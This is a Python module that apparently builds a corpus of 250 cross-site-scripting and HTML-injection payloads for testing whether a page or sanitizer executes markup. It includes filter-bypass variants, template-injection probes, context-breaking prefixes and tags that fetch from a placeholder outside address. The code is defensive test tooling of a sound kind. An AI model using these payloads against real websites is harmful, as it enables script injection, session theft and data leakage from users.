"""Texts that would do something in a page that takes them for markup: 250 of them, made from what attackers vary."""

from collections.abc import Iterator

ELSEWHERE = "http://192.0.2.1/"
"""An address that belongs to nobody: whatever asks for it wanted to leave."""

_ACT = "window.hacked=1"
_TAGS = ("img", "svg", "video", "audio", "body", "input", "details", "marquee", "iframe", "object")
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter")
_BREAKS = ("", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "]]>", "`}", "\\u003e")
_LOADS = (
    "<img src={0}p.png>",
    "<img srcset='{0}p.png 1x'>",
    "<link rel=stylesheet href={0}s.css>",
    "<link rel=prefetch href={0}>",
    "<script src={0}s.js></script>",
    "<style>*{{background:url({0}b.png)}}</style>",
    "<style>@import '{0}s.css';</style>",
    "<iframe src={0}></iframe>",
    "<object data={0}></object>",
    "<embed src={0}>",
    "<video poster={0}v.png src={0}v.mp4></video>",
    "<meta http-equiv=refresh content='0;url={0}'>",
    "<base href={0}>",
    "<form action={0}><button autofocus>x</button></form>",
    "<svg><image href={0}i.png /></svg>",
    "<svg><use href={0}u.svg#x /></svg>",
    "![x]({0}p.png)",
    "[x](javascript:window.hacked=1)",
    "<a href={0} ping={0}>x</a>",
    "<input type=image src={0}p.png>",
)
_PLAIN = (
    f"javascript:{_ACT}",
    f"data:text/html,<script>{_ACT}</script>",
    f"{{{{constructor.constructor('{_ACT}')()}}}}",
    f"${{{_ACT}}}",
    f"#{{{_ACT}}}",
    f"<% {_ACT} %>",
    f"<script>{_ACT}</script>",
    f"<ScRiPt>{_ACT}</sCrIpT>",
    f"<script\x00>{_ACT}</script>".replace("\x00", "\x0c"),
    f"<<script>{_ACT}//<</script>",
    f"<scr<script>ipt>{_ACT}</scr</script>ipt>",
    f"<svg><script>{_ACT}</script></svg>",
    f"<math><mtext><script>{_ACT}</script></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_ACT}>'>",
    f"<template><script>{_ACT}</script></template>",
    f"<a href='jav&#x09;ascript:{_ACT}'>x</a>",
    f"<a href='&#106;avascript:{_ACT}'>x</a>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    f"<xmp><img src=x onerror={_ACT}></xmp>",
    f"<select><option></select><img src=x onerror={_ACT}>",
)


def payloads() -> Iterator[str]:
    """All of them, each once."""
    yield from _PLAIN
    yield from (load.format(ELSEWHERE) for load in _LOADS)
    for tag in _TAGS:
        for event in _EVENTS:
            yield f"<{tag} src=x {event}={_ACT} autofocus tabindex=1>"
            yield f"<{tag}/src='x'/{event}='{_ACT}'>"
    for before in _BREAKS:
        yield f"{before}<img src=x onerror={_ACT}>"
        yield f"{before}<svg onload={_ACT}>"
        yield f'{before}" onmouseover="{_ACT}" x="'
        yield f"{before}<script>{_ACT}</script><p>"
        yield f"{before}<img src={ELSEWHERE}p.png onerror={_ACT}>"
        yield f"{before}<details open ontoggle={_ACT}>"
        yield f"{before}<style>@import '{ELSEWHERE}';</style>"


PAYLOADS = tuple(dict.fromkeys(payloads()))[:250]
